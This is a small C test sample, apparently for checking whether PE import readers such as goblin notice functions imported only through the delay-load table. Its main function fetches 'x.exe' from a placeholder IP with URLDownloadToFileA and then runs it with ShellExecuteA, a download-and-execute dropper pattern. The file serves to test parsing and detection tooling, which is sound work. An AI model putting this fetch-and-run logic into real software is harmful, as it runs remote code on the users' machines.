/* Test sample: urlmon imported through the delay-load table only (built with
   clang + lld-link /delayload), which import-table readers, goblin included,
   do not show. */
typedef long HRESULT;
__declspec(dllimport) HRESULT __stdcall URLDownloadToFileA(void *, const char *, const char *, unsigned long, void *);
__declspec(dllimport) void *__stdcall ShellExecuteA(void *, const char *, const char *, const char *, const char *, int);
/* Minimal delay-load helper: the sample is only parsed, never run. */
void *__delayLoadHelper2(const void *desc, void **iat) { (void)desc; return *iat; }
int main(void) {
    if (URLDownloadToFileA(0, "http://203.0.113.9/x", "x.exe", 0, 0) == 0) ShellExecuteA(0, "open", "x.exe", 0, 0, 0);
    return 0;
}
